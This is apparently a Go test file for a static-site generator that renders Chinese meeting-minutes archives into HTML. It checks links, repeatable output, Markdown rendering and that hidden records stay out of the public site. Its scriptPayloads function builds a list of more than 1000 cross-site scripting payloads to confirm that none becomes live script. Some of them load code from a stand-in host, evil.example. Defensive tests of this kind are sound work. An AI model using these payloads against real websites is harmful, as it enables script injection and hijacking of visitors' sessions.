package render

import (
	"bytes"
	"context"
	"crypto/sha256"
	"fmt"
	"io"
	"net/url"
	"os"
	"path"
	"sort"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"golang.org/x/net/html"

	"github.com/minutebook/minutebook/generator/archive"
	"github.com/minutebook/minutebook/generator/diag"
)

var now = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)

// base are the registers every test archive has.
var base = map[string]string{
	"minutebook.yaml":         "title: 测试档案\naudience: public\n",
	"registers/units.yaml":    "units:\n  - {id: office, name: 办公室}\n  - {id: lab, name: 实验中心, parent: office}\n",
	"registers/people.yaml":   "people:\n  - {id: wang, name: 王芳, emails: [canary-mail@example.org]}\n  - {id: zhou, name: 周凯}\n",
	"registers/projects.yaml": "projects:\n  - {id: p1, name: 升级}\n",
}

func record(front, body string) string {
	return "---\ntitle: 关于测试的纪要\nunit: 办公室\n" + front + "---\n\n" + body
}

func view(t testing.TB, files map[string]string, audience string) (*archive.View, fstest.MapFS) {
	t.Helper()
	fsys := fstest.MapFS{}
	for _, m := range []map[string]string{base, files} {
		for name, data := range m {
			fsys[name] = &fstest.MapFile{Data: []byte(data)}
		}
	}
	a, err := archive.Load(context.Background(), fsys, archive.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	au, ok := a.AudienceFor(audience)
	if !ok {
		t.Fatalf("no audience %s", audience)
	}
	return a.View(au), fsys
}

// site renders all pages into memory.
func site(t testing.TB, v *archive.View, opt Options) map[string][]byte {
	t.Helper()
	s, err := New(v, opt)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for p := range s.Pages(nil) {
		p = p.Made()
		var b bytes.Buffer
		if err := p.Write(&b); err != nil {
			t.Fatalf("%s: %v", p.Path, err)
		}
		if _, twice := out[p.Path]; twice {
			t.Errorf("%s is written twice", p.Path)
		}
		out[p.Path] = b.Bytes()
	}
	return out
}

func sample(t testing.TB, audience string) (*archive.View, map[string][]byte) {
	t.Helper()
	fsys := os.DirFS("../../content")
	a, err := archive.Load(context.Background(), fsys, archive.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	au, _ := a.AudienceFor(audience)
	v := a.View(au)
	return v, site(t, v, Options{Files: fsys})
}

// elements calls f for every start tag of a page.
func elements(page []byte, f func(tag string, attr map[string]string)) {
	z := html.NewTokenizer(bytes.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			attr := map[string]string{}
			for _, a := range tok.Attr {
				attr[a.Key] = a.Val
			}
			f(tok.Data, attr)
		}
	}
}

// Every link of the sample site leads to a page and an anchor that exist.
func TestLinksOfTheSample(t *testing.T) {
	for _, audience := range []string{"public", "internal"} {
		_, pages := sample(t, audience)
		checkLinks(t, pages)
	}
}

func checkLinks(t *testing.T, pages map[string][]byte) {
	t.Helper()
	ids := map[string]map[string]bool{}
	for name, data := range pages {
		ids[name] = map[string]bool{}
		if path.Ext(name) != ".html" {
			continue
		}
		elements(data, func(_ string, attr map[string]string) {
			if id := attr["id"]; id != "" {
				if ids[name][id] {
					t.Errorf("%s: id %q twice", name, id)
				}
				ids[name][id] = true
			}
		})
	}
	links := 0
	for name, data := range pages {
		if path.Ext(name) != ".html" {
			continue
		}
		elements(data, func(tag string, attr map[string]string) {
			for _, key := range []string{"href", "src"} {
				to, ok := attr[key]
				if !ok {
					continue
				}
				links++
				u, err := url.Parse(to)
				if err != nil {
					t.Errorf("%s: %s=%q: %v", name, key, to, err)
					continue
				}
				if u.Scheme != "" {
					if key == "src" {
						t.Errorf("%s: %s leaves the site", name, to)
					}
					continue
				}
				target := name
				if u.Path != "" {
					target = path.Join(path.Dir(name), u.Path)
				}
				if name == "404.html" && u.Path != "" {
					target = strings.TrimPrefix(u.Path, rootOf(data)) // shown at any depth
				}
				if _, ok := pages[target]; !ok {
					t.Errorf("%s: <%s %s=%q> leads nowhere", name, tag, key, to)
				} else if u.Fragment != "" && !ids[target][u.Fragment] {
					t.Errorf("%s: no anchor for %q", name, to)
				}
			}
		})
	}
	if links < len(pages) {
		t.Errorf("only %d links on %d pages", links, len(pages))
	}
}

// rootOf is where a page believes the site to begin.
func rootOf(page []byte) string {
	var root string
	elements(page, func(tag string, attr map[string]string) {
		if tag == "script" {
			root, _, _ = strings.Cut(attr["src"], "static/")
		}
	})
	return root
}

// The pages are a function of the view: the same bytes and digests each time.
func TestSameBytes(t *testing.T) {
	sum := func() string {
		_, pages := sample(t, "internal")
		h := sha256.New()
		for _, name := range names(pages) {
			fmt.Fprintf(h, "%s %x\n", name, sha256.Sum256(pages[name]))
		}
		return fmt.Sprintf("%x", h.Sum(nil))
	}
	if a, b := sum(), sum(); a != b {
		t.Error("two renderings differ")
	}
}

func names(pages map[string][]byte) []string {
	var out []string
	for n := range pages {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// A page's digest changes with what the page shows, and only then.
func TestDigests(t *testing.T) {
	files := map[string]string{
		"minutes/2026/2026-01-05-a.md": record("date: 2026-01-05\nseries: 例会\n", "## 待办\n\n- 完成文档 @王芳 截止 2026-02-01\n"),
		"minutes/2026/2026-01-12-b.md": record("date: 2026-01-12\nseries: 例会\n", "正文\n"),
		"notices/2026/2026-01-20-c.md": record("date: 2026-01-20\n", "无关\n"),
	}
	digests := func() map[string][32]byte {
		v, fsys := view(t, files, "public")
		s, err := New(v, Options{Files: fsys})
		if err != nil {
			t.Fatal(err)
		}
		out := map[string][32]byte{}
		for p := range s.Pages(nil) {
			p = p.Made()
			if p.Digest == ([32]byte{}) {
				t.Errorf("%s has no digest", p.Path)
			}
			out[p.Path] = p.Digest
		}
		return out
	}
	before := digests()
	files["minutes/2026/2026-01-12-b.md"] = record("date: 2026-01-12\nseries: 例会\n", "- [x] 2026-01-05-a#a1 已完成\n")
	after := digests()
	changed := map[string]bool{}
	for p := range after {
		changed[p] = before[p] != after[p]
	}
	for p, want := range map[string]bool{
		"records/2026-01-12-b.html": true, // its own text
		"records/2026-01-05-a.html": true, // its action's state
		"actions.html":              true,
		"records/2026-01-20-c.html": false,
		"tags.html":                 false,
		"types/notice.html":         false,

		"statistics/closure/all.html": true, // its line says so
		"statistics/records/all.html": false,
	} {
		if changed[p] != want {
			t.Errorf("%s changed: %v, want %v", p, changed[p], want)
		}
	}
	files["minutebook.yaml"] = "title: 另一个档案\n"
	renamed := digests()
	for p, d := range renamed {
		if strings.HasSuffix(p, ".html") && d == after[p] {
			t.Errorf("%s did not change with the title of the archive", p)
		}
	}
}

// What stands for a part that is shared changes with everything that the part
// shows.
func TestSums(t *testing.T) {
	seen := map[[32]byte]string{}
	see := func(what string, sum [32]byte) {
		if was, ok := seen[sum]; ok {
			t.Errorf("%s has the sum of %s", what, was)
		}
		seen[sum] = what
	}
	for what, l := range map[string]behindLine{
		"nothing": {}, "date": {Date: "2026-01-05"}, "text": {What: link{Text: "a"}}, "address": {What: link{Href: "a"}}, "note": {What: link{Note: "a"}},
		"by": {By: []link{{Text: "a"}}}, "outcome": {Outcome: "a"}, "class": {Class: "a"}, "amount": {Amount: "a"}, "missing": {Missing: "a"},
	} {
		see("a line with "+what, sumOf(l))
	}
	for what, c := range map[string]chrome{"nothing": {}, "top": {top: "a"}, "foot": {foot: "a"}, "failed": {failed: "a"}} {
		see("a chrome with "+what, sumOf(c))
	}
	page := func(l *behindLine) [32]byte { return sumOf(blockPage{Blocks: []block{{Lines: []*behindLine{l}}}}) }
	if page(&behindLine{sum: [32]byte{1}}) == page(&behindLine{sum: [32]byte{2}}) {
		t.Error("a page does not change with the sum of a line")
	}
	if page(&behindLine{Date: "1"}) != page(&behindLine{Date: "2"}) {
		t.Error("a line is hashed again where its sum would do")
	}
}

func bodyOf(t *testing.T, md string) string {
	t.Helper()
	v, fsys := view(t, map[string]string{
		"minutes/2026/2026-01-05-a.md": record("date: 2026-01-05\n", md),
		"minutes/2026/2026-01-04-b.md": record("date: 2026-01-04\n", "正文\n"),
		"minutes/2026/图.png":           "png",
		"minutes/2026/x.svg":           "<svg/>",
	}, "public")
	s, err := New(v, Options{Files: fsys})
	if err != nil {
		t.Fatal(err)
	}
	h, err := s.body(v.Record("2026-01-05-a")).HTML()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(h.HTML))
}

func TestMarkdown(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"paragraph", "一段\n第二行  \n第三行", "<p>一段\n第二行<br>\n第三行</p>"},
		{"escapes", `a \* b &amp; c \& &lt;`, "<p>a * b &amp; c &amp; &lt;</p>"},
		{"code keeps its marks", "`a &amp; \\*`", `<p><code>a &amp;amp; \*</code></p>`},
		{"emphasis", "**重要** 和 *次要* ~~旧~~", "<p><strong>重要</strong> 和 <em>次要</em> <del>旧</del></p>"},
		{"heading", "# 题\n\n## 题", "<h2 id=\"s-题\">题</h2>\n<h3 id=\"s-题-2\">题</h3>"},
		{"list from three", "3. 三\n4. 四", "<ol start=\"3\">\n<li>三</li>\n<li>四</li>\n</ol>"},
		{"tasks", "- [ ] 甲\n- [x] 乙", "<ul>\n<li><span class=\"box\">☐</span> 甲</li>\n<li><span class=\"box done\">☑</span> 乙</li>\n</ul>"},
		{"table", "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "<div class=\"scroll\" tabindex=\"0\"><table>\n<thead><tr><th scope=\"col\">甲</th><th scope=\"col\">乙</th></tr></thead>\n<tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table></div>"},
		{"link out", "[站](https://example.org/a?b=1&c=2)", `<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">站</a></p>`},
		{"link to a record", "[上次](2026-01-04-b.md)", `<p><a href="../records/2026-01-04-b.html">上次</a></p>`},
		{"link to an item of a record", "[上次](../2026/2026-01-04-b.md#a1)", `<p><a href="../records/2026-01-04-b.html#a1">上次</a></p>`},
		{"address with escapes", `[上次](2026\-01&#45;04-b.md)`, `<p><a href="../records/2026-01-04-b.html">上次</a></p>`},
		{"addresses as they are", "<https://example.org/a?b&c> <a@example.org>", `<p><a href="https://example.org/a?b&amp;c" rel="noopener noreferrer nofollow">https://example.org/a?b&amp;c</a> <a href="mailto:a@example.org" rel="noopener noreferrer nofollow">a@example.org</a></p>`},
		{"marks within a link", "[见 **上次** <x>](2026-01-04-b.md)", `<p><a href="../records/2026-01-04-b.html">见 <strong>上次</strong> &lt;x&gt;</a></p>`},
		{"code of several lines", "- 甲\n\n\t\tb\n", "<ul>\n<li><p>甲</p>\n<pre tabindex=\"0\"><code>  b\n</code></pre>\n</li>\n</ul>"},
		{"quote and rule", "> 甲\n\n***", "<blockquote><p>甲</p>\n</blockquote>\n<hr>"},
		{"link to nothing", "[x](missing.md)", `<p><span class="broken">x</span></p>`},
		{"image beside", "![示意图](图.png)", `<p><img src="../files/minutes/2026/%E5%9B%BE.png" alt="示意图" loading="lazy"></p>`},
		{"image elsewhere", "![外图](https://example.org/x.png)", `<p><span class="broken">外图</span></p>`},
		{"svg is not shown", "![图](x.svg)", `<p><span class="broken">图</span></p>`},
		{"raw html", "a<br>b<b onclick=x>c</b>", "<p>a<br>b&lt;b onclick=x&gt;c&lt;/b&gt;</p>"},
		{"html block", "<script>alert(1)</script>", "<pre tabindex=\"0\"><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>"},
		{"anchors", "## 待办\n\n- 完成文档 @王芳 截止 2026-02-01", "<h3 id=\"s-待办\">待办</h3>\n<ul>\n<li><a class=\"anchor\" id=\"a1\" href=\"#a1\">a1</a> <span class=\"state overdue\">已逾期</span> 完成文档 @王芳 截止 2026-02-01</li>\n</ul>"},
		{"anchor in bold text", "## 待办\n\n1. **完成**文档", "<h3 id=\"s-待办\">待办</h3>\n<ol>\n<li><strong><a class=\"anchor\" id=\"a1\" href=\"#a1\">a1</a> <span class=\"state open\">未开始</span> 完成</strong>文档</li>\n</ol>"},
		{"anchor in a table", "## 待办\n\n| 事项 | 责任人 |\n|---|---|\n| 完成文档 | 王芳 |", "<h3 id=\"s-待办\">待办</h3>\n<div class=\"scroll\" tabindex=\"0\"><table>\n<thead><tr><th scope=\"col\">事项</th><th scope=\"col\">责任人</th></tr></thead>\n<tbody>\n<tr><td><a class=\"anchor\" id=\"a1\" href=\"#a1\">a1</a> <span class=\"state open\">未开始</span> 完成文档</td><td>王芳</td></tr>\n</tbody></table></div>"},
	}
	for _, x := range tests {
		t.Run(x.name, func(t *testing.T) {
			if got := bodyOf(t, x.in); got != x.want {
				t.Errorf("got\n%s\nwant\n%s", got, x.want)
			}
		})
	}
}

// Nothing a record holds becomes script: not in its body, not in its fields.
func TestNoScript(t *testing.T) {
	payloads := scriptPayloads()
	if len(payloads) < 1000 {
		t.Fatalf("%d payloads", len(payloads))
	}
	files := map[string]string{}
	for i, p := range payloads {
		front := fmt.Sprintf("date: 2026-01-05\nlocation: %s\nseries: %s\ntags: [%s]\nlink: https://example.org/%s\n", quote(p), quote(p), quote(p), url.PathEscape(p))
		files[fmt.Sprintf("minutes/2026/2026-01-05-x%d.md", i)] = "---\ntitle: " + quote(p) + "\nunit: 办公室\n" + front + "---\n\n" + p + "\n\n[" + p + "](" + p + ")\n\n![" + p + "](<" + p + ">)\n\n## 待办\n\n- " + p + " @王芳\n"
	}
	v, fsys := view(t, files, "public")
	pages := site(t, v, Options{Files: fsys})
	refused := 0 // control characters are refused when a file is read
	for _, p := range payloads {
		if strings.ContainsRune(p, '\u0001') {
			refused++
		}
	}
	if len(v.Records) != len(payloads)-refused {
		t.Errorf("%d of %d records are shown, %d refused", len(v.Records), len(payloads), refused)
	}
	for name, page := range pages {
		if path.Ext(name) != ".html" {
			continue // no browser runs feeds, calendars or Markdown
		}
		elements(page, func(tag string, attr map[string]string) {
			switch tag {
			case "script":
				if src := strings.TrimLeft(attr["src"], "./"); !strings.HasPrefix(src, "static/") && attr["type"] != "application/ld+json" {
					t.Errorf("%s: <script src=%q>", name, src)
				}
			case "svg":
				if !strings.HasPrefix(name, "statistics/") { // whose charts we draw
					t.Errorf("%s: <svg>", name)
				}
			case "iframe", "object", "embed", "math", "base", "form", "style", "video", "audio":
				t.Errorf("%s: <%s>", name, tag)
			}
			for k, val := range attr {
				if strings.HasPrefix(k, "on") || k == "style" || k == "srcdoc" {
					t.Errorf("%s: <%s %s>", name, tag, k)
				}
				if k == "href" || k == "src" {
					u, err := url.Parse(val)
					if err != nil {
						t.Errorf("%s: %s=%q", name, k, val)
					} else if !strings.Contains("|https|http|mailto|tel||", "|"+strings.ToLower(u.Scheme)+"|") || strings.HasPrefix(val, "//") {
						t.Errorf("%s: scheme of %q", name, val)
					}
				}
			}
		})
		if t.Failed() {
			t.FailNow()
		}
	}
}

func quote(s string) string {
	return "'" + strings.ReplaceAll(strings.ReplaceAll(s, "'", "''"), "\n", " ") + "'"
}

// scriptPayloads combines ways to smuggle script with ways to write them.
func scriptPayloads() []string {
	calls := []string{"alert(1)", "alert`1`", "eval(name)", "import('//evil.example/x')", "top.location='//evil.example'"}
	var seeds []string
	for _, c := range calls {
		for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "javascript&colon;", "\u0001javascript:", "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "ms-msdt:", "search-ms:", "intent:", "blob:", "file:///", "//evil.example/", "\\\\evil.example\\", "view-source:javascript:", "feed:javascript:", "jar:"} {
			seeds = append(seeds, scheme+c)
		}
		for _, tag := range []string{"<script>%s</script>", "<ScRiPt >%s</ScRiPt>", "<script src=//evil.example>%s", "<img src=x onerror=%s>", "<img src=x onerror='%s'>", "<svg onload=%s>", "<svg><script>%s</script></svg>", "<math href=javascript:%s>", "<body onload=%s>", "<iframe src=javascript:%s>", "<iframe srcdoc='<script>%s</script>'>", "<a href=javascript:%s>x</a>", "<details open ontoggle=%s>", "<input autofocus onfocus=%s>", "<video><source onerror=%s>", "<style>@import 'javascript:%s'</style>", "<object data=javascript:%s>", "<embed src=javascript:%s>", "<base href=javascript:%s//>", "<form action=javascript:%s><button>", "<!--<img src=--><img src=x onerror=%s>-->", "<![CDATA[<script>%s</script>]]>", "</title><script>%s</script>", "\"><script>%s</script>", "' onmouseover='%s", "`onmouseover=%s", "<x onclick=%s>", "{{%s}}", "<p style=\"x:expression(%s)\">"} {
			seeds = append(seeds, fmt.Sprintf(tag, c))
		}
	}
	var out []string
	for _, s := range seeds {
		out = append(out, s, "**"+s+"**", "<"+s+">", "`"+s+"` "+s, "| "+s+" |\n|---|\n| "+s+" |")
	}
	return out
}

// What a hidden record holds is nowhere in the public site.
func TestNoLeak(t *testing.T) {
	files := map[string]string{
		"minutes/2026/2026-01-05-open.md": record("date: 2026-01-05\naudience: public\nrelated: [2026-01-06-canary0-x, 机密会议canary]\ntags: [公开]\n",
			"见 2026-01-06-canary0-x，以及2026-01-06-canary1-x#a1。\n\n- [x] 2026-01-06-canary2-x#a1 已完成\n\n[标题](2026-01-06-canary3-x.md) `2026-01-06-canary4-x` 和机密会议canary\n\n## 待办\n\n- 跟进 2026-01-06-canary5-x @王芳 截止 2026-02-01\n\n    2026-01-06-canary6-x\n\n<2026-01-06-canary7-x>\n\n![2026-01-06-canary8-x](2026-01-06-canary9-x.md)\n"),
	}
	for i := range 200 {
		c := fmt.Sprintf("canary%d-", i)
		audience := []string{"internal", "[实验中心]", "pubilc", "[public]"}[i%4]
		files[fmt.Sprintf("minutes/2026/2026-01-06-canary%d-x.md", i)] = "---\ntitle: " + c + "title\nunit: 实验中心\ndate: 2026-01-06\naudience: " + audience +
			"\nseries: " + c + "series\ntags: [" + c + "tag]\nlocation: " + c + "place\nauthor: 周凯\nproject: 升级\nlink: https://" + c + "host.example/\ncc: " + c + "party\nattachments:\n  - {file: " + c + "file.txt, title: " + c + "file}\naliases: [" + c + "old]\n---\n\n## 决议\n\n- " + c + "decision\n\n## 待办\n\n- " + c + "action @周凯 截止 2026-02-01\n\n- [x] 2026-01-05-open#a1 已完成 " + c + "event\n"
		files["minutes/2026/"+c+"file.txt"] = c + "bytes"
	}
	files["minutes/2026/机密会议canary.md"] = record("date: 2026-01-07\naudience: internal\n", "")
	v, fsys := view(t, files, "public")
	findings := []diag.Finding{{Rule: "x", File: "minutes/2026/2026-01-05-open.md", Message: diag.Plain("see 2026-01-06-canary0-x"), Severity: diag.Error}}
	pages := site(t, v, Options{Files: fsys, Findings: findings, BaseURL: "https://minutes.example.org/"})
	for name, page := range pages {
		page = unzipped(t, name, page)
		if i := bytes.Index(append([]byte(name+"\n"), page...), []byte("canary")); i >= 0 {
			t.Errorf("%s: …%s…", name, page[max(0, i-80):min(len(page), i+40)])
		}
		for _, hidden := range []string{"周凯", "实验中心", "升级"} {
			if bytes.Contains(page, []byte(hidden)) {
				t.Errorf("%s names %s, whom only hidden records name", name, hidden)
			}
		}
	}
	if !bytes.Contains(pages["records/2026-01-05-open.html"], []byte("另有一份不公开的记录")) {
		t.Error("the reference is not replaced")
	}
	if !bytes.Contains(pages["actions.html"], []byte("已逾期")) {
		t.Error("a hidden follow-up closed a visible action")
	}
	// The same archive shows everything to those who may see it.
	inside, _ := view(t, files, "实验中心")
	all := site(t, inside, Options{Files: fsys})
	if n := len(all); n < 200 {
		t.Errorf("the unit's own site has %d pages", n)
	}
}

func TestEveryLanguageHasTheSameWords(t *testing.T) {
	v, fsys := view(t, nil, "public")
	var keys []string
	for _, lang := range diag.Langs {
		s, err := New(v, Options{Files: fsys, Lang: lang})
		if err != nil {
			t.Fatal(err)
		}
		got := sortedKeys(s.words.text)
		if keys != nil && strings.Join(keys, " ") != strings.Join(got, " ") {
			t.Errorf("%s has other keys", lang)
		}
		keys = got
	}
	for _, lang := range diag.Langs {
		_, pages := sampleIn(t, lang)
		if len(pages) < 300 {
			t.Errorf("%s: %d pages", lang, len(pages))
		}
	}
}

func sampleIn(t *testing.T, lang diag.Lang) (*archive.View, map[string][]byte) {
	fsys := os.DirFS("../../content")
	a, err := archive.Load(context.Background(), fsys, archive.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	au, _ := a.AudienceFor("internal")
	v := a.View(au)
	return v, site(t, v, Options{Files: fsys, Lang: lang})
}

func BenchmarkRecordPage(b *testing.B) {
	fsys := os.DirFS("../../content")
	a, err := archive.Load(context.Background(), fsys, archive.Options{Now: now})
	if err != nil {
		b.Fatal(err)
	}
	au, _ := a.AudienceFor("internal")
	s, err := New(a.View(au), Options{Files: fsys})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		for p := range s.recordPages() {
			p = p.Made()
			if err := p.Write(io.Discard); err != nil {
				b.Fatal(err)
			}
			n++
		}
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(n), "µs/page")
}
